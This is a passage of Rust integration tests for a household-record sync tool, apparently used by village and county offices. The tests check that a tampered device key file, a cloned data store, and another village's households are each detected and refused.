    let dir = tempdir();
    let d = dir.path();
    let cty = county(d, "county", "341024");
    let a = device(d, "a", &cty);
    import_households(
        &a,
        &d.join("h.json"),
        &[household("TXZ-001", ID1, "1", "一号", "1组")],
    );
    sync(&a, &cty, &d.join("a1.bangfu"));
    // Someone with access to the folder puts their own identity in place of
    // the device's (unsealed, as an earlier version wrote key files).
    let age_file = bangfu::sync::identity::keys_dir(&a).join("device.age");
    let foreign = age::x25519::Identity::generate();
    use age::secrecy::ExposeSecret;
    std::fs::write(
        &age_file,
        format!(
            "# public key: {}\n{}\n",
            foreign.to_public(),
            foreign.to_string().expose_secret()
        ),
    )
    .expect("write");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&age_file, std::fs::Permissions::from_mode(0o600)).expect("chmod");
    }
    import_households(
        &a,
        &d.join("h2.json"),
        &[household("TXZ-001", ID1, "2", "一号", "1组")],
    );
    let out = d.join("a2.bangfu");
    let r = export(&a, &out);
    assert_ne!(r.code, 0, "{}", r.describe());
    assert!(
        r.stderr.contains("device.age") && r.stderr.contains("不是本设备的"),
        "{}",
        r.stderr
    );
    assert!(!out.exists());
}

#[test]
fn a_store_cloned_to_a_second_laptop_is_pointed_to_its_own_identity() {
    let dir = tempdir();
    let d = dir.path();
    let (cty, a) = two_households(d);
    sync(&a, &cty, &d.join("a1.bangfu"));
    // The store and its keys copied to a second laptop: one identity, two laptops.
    let b = d.join("b.sqlite");
    copy_store(&a, &b);
    import_households(
        &a,
        &d.join("a2.json"),
        &[household("TXZ-001", ID1, "13911111111", "一号", "1组")],
    );
    import_households(
        &b,
        &d.join("b2.json"),
        &[household("TXZ-001", ID1, "13922222222", "一号", "1组")],
    );
    let (a2, b2) = (d.join("a2.bangfu"), d.join("b2.bangfu"));
    export(&a, &a2).ok();
    export(&b, &b2).ok();
    import(&cty, &[&a2]).ok();
    let before = snapshot(&cty.db);
    let r = import(&cty, &[&b2]).fails(2, "已导入过另一份");
    assert!(r.stdout.contains("--copied-store"), "{}", r.stdout);
    assert_eq!(snapshot(&cty.db), before);
    // The acknowledgement the county points to is not the clone's: said so,
    // with the way out, instead of sending the caseworker round in a loop.
    let r = run(&b, &["bundle", "ack", p(&ack_of(&a2))]).input_error();
    assert!(
        r.stderr.contains("不属于本机") && r.stderr.contains("--copied-store"),
        "{}",
        r.stderr
    );
}

#[test]
fn a_village_laptop_does_not_take_in_households_the_county_would_refuse() {
    let dir = tempdir();
    let d = dir.path();
    let cty = county(d, "county", "341024");
    let b = device_in(d, "b", "保婴村", &cty);
    import_households(
        &b,
        &d.join("own.json"),
        &[household_of("BY-001", "保婴村", "341024", ID3)],
    );
    let before = query_text(&b, "SELECT COUNT(*) || ':' || MAX(hash) FROM change_log");
    // Another village's household would block every later bundle of this laptop.
    let file = d.join("other.json");
    write_json(
        &file,
        &json!({"format": "bangfu.household.v1", "households": [
            household_of("BY-002", "保婴村", "341024", ID2),
            household("TXZ-001", ID1, "1", "一号", "1组"),
        ]}),
    );
    let r = run(&b, &["import", "households", p(&file)]).input_error();
    assert!(
        r.stderr.contains("TXZ-001")
            && r.stderr.contains("田心寨村")
            && r.stderr.contains("保婴村"),
        "{}",
        r.stderr
    );
    assert_eq!(
        query_text(&b, "SELECT COUNT(*) || ':' || MAX(hash) FROM change_log"),
        before
    );
    // Its own village's households still import, and sync.
    import_households(
        &b,
        &d.join("own2.json"),
        &[household_of("BY-002", "保婴村", "341024", ID2)],
    );
    sync(&b, &cty, &d.join("b1.bangfu"));
    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM households"), 2);
}
